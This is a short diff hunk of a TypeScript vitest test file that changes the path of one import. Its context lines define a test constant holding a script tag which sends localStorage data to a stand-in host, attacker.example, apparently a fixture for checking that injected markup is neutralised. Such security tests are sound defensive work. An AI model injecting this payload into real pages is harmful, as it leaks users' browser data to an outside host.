@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { rawRequest } from '../http/raw-request.test-support.ts';
 import { newPerson, newWorkspace, openServer, type Person, type TestServer } from '../server.test-support.ts';
-import { workPart } from '../work/index.ts';
+import { workPart } from '../work-part.ts';
 
 const HTML = '<script>fetch("https://attacker.example/?" + localStorage.length)</script>';
 const YEARS = 10 * 365 * 86_400;
